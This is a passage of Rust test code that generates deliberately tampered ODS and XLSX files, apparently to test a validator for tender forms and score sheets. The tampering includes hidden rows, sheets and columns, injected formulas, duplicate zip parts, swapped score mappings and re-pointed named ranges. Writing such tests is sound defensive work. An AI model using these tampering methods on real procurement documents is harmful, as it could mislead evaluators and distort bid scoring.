                    r#"<table:named-expressions>{range}</table:named-expressions></table:table><table:table table:name="Perceel P1""#
                ),
            )
        }),
    );
    // The row of the name's label, whatever row style LibreOffice gave it (styles follow
    // the row heights).
    let naam_row = regex::Regex::new(
        r#"<table:table-row table:style-name="ro\d+"><table:table-cell table:style-name="ce\d+" office:value-type="string" calcext:value-type="string"><text:p>Naam organisatie</text:p>"#,
    )
    .expect("regex");
    put(
        "ods-label-hidden-row.ods",
        edit_part(&ods, "content.xml", |x| {
            // Every block of names: the workbook's and each sheet's (print titles).
            let x =
                regex::Regex::new(r"(?s)<table:named-expressions>.*?</table:named-expressions>")
                    .expect("regex")
                    .replace_all(x, "")
                    .into_owned();
            let row = naam_row
                .find(&x)
                .expect("the name's row")
                .as_str()
                .to_string();
            once(
                &x,
                &row,
                &row.replacen('>', r#" table:visibility="collapse">"#, 1),
            )
        }),
    );
    put(
        "ods-label-hidden-sheet.ods",
        edit_part(&ods, "content.xml", |x| {
            // Every block of names: the workbook's and each sheet's (print titles).
            let x =
                regex::Regex::new(r"(?s)<table:named-expressions>.*?</table:named-expressions>")
                    .expect("regex")
                    .replace_all(x, "")
                    .into_owned();
            // The style of the hidden sheet `_formulier` given to Aanbieder.
            let hidden = regex::Regex::new(
                r#"<table:table table:name="_formulier" table:style-name="([^"]+)""#,
            )
            .expect("regex")
            .captures(&x)
            .expect("_formulier")[1]
                .to_string();
            let re = regex::Regex::new(
                r#"<table:table table:name="Aanbieder" table:style-name="[^"]+""#,
            )
            .expect("regex");
            let old = re.find(&x).expect("Aanbieder").as_str().to_string();
            once(
                &x,
                &old,
                &format!(r#"<table:table table:name="Aanbieder" table:style-name="{hidden}""#),
            )
        }),
    );
    put(
        "ods-input-hidden-column.ods",
        edit_part(&ods, "content.xml", |x| {
            // The second column (B, the inputs) of Aanbieder collapsed.
            let start = x
                .find(r#"<table:table table:name="Aanbieder""#)
                .expect("Aanbieder");
            let first = start + x[start..].find("<table:table-column ").expect("a column");
            let second = first + 1 + x[first + 1..].find("<table:table-column ").expect("B");
            let mut out = x.to_string();
            out.insert_str(
                second + "<table:table-column ".len(),
                r#"table:visibility="collapse" "#,
            );
            out
        }),
    );
    put(
        "ods-formula.ods",
        edit_part(&ods, "content.xml", |x| {
            once(
                x,
                r#"table:content-validation-name="val1" office:value-type="string""#,
                r#"table:content-validation-name="val1" table:formula="of:=&quot;Zorgboerderij De Vlinderhof&quot;" office:value-type="string""#,
            )
        }),
    );
    put(
        "ods-manifest-undeclared.ods",
        edit_part(&ods, "META-INF/manifest.xml", |x| {
            once(
                x,
                r#"<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>"#,
                "",
            )
        }),
    );
    let content = unzip(&ods)
        .into_iter()
        .find(|(n, _)| n == "content.xml")
        .expect("content.xml")
        .1;
    put(
        "ods-duplicate-part.ods",
        with_entry(&ods, "Content.xml", content),
    );

    // 5. Score sheets: the hidden table's mapping and the visible rows disagree, a name
    //    re-pointed or scoped to a sheet, a formula in a score cell.
    let sheet = std::fs::read(sample_dir().join("scores/score-E1.xlsx")).expect("sheet");
    let meta = sheet_part(&sheet, "meta");
    let lot = sheet_part(&sheet, "P1");
    let value = |xml: &str, cell: &str| -> String {
        let re =
            regex::Regex::new(&format!(r#"<c r="{cell}"[^>]*><v>([^<]*)</v></c>"#)).expect("regex");
        re.captures(xml).expect("the cell")[1].to_string()
    };
    put(
        "score-sheet-mapping-swapped.xlsx",
        edit_part(&sheet, &meta, |x| {
            // The criteria of the first two score rows swapped.
            let (d11, d12) = (value(x, "D11"), value(x, "D12"));
            let x = replace_cell(x, "D11", &format!(r#"<c r="D11" t="s"><v>{d12}</v></c>"#));
            replace_cell(&x, "D12", &format!(r#"<c r="D12" t="s"><v>{d11}</v></c>"#))
        }),
    );
    put(
        "score-sheet-visible-bid.xlsx",
        edit_part(&sheet, &lot, |x| {
            // Row 7 shows the bid of the next block.
            let other = value(x, "A13");
            replace_cell(
                x,
                "A7",
                &format!(r#"<c r="A7" s="7" t="s"><v>{other}</v></c>"#),
            )
        }),
    );
    put(
        "score-sheet-name-moved.xlsx",
        with_name(
            &sheet,
            "tender_score_0001",
            &element("tender_score_0001", "'P1'!$E$8", None),
        ),
    );
    put(
        "score-sheet-name-scope.xlsx",
        with_name(
            &sheet,
            "tender_score_0001",
            &element("tender_score_0001", "'P1'!$E$7", Some(1)),
        ),
    );
    put(
        "score-sheet-formula.xlsx",
        edit_part(&sheet, &lot, |x| {
            replace_cell(x, "E7", r#"<c r="E7" s="9"><f>50+50</f><v>100</v></c>"#)
        }),
    );
    put(
        "score-sheet-duplicate-part.xlsx",
        with_entry(
            &sheet,
            &lot,
            unzip(&sheet)
                .into_iter()
                .find(|(n, _)| *n == lot)
                .expect("the sheet")
                .1,
        ),
    );
    out
}
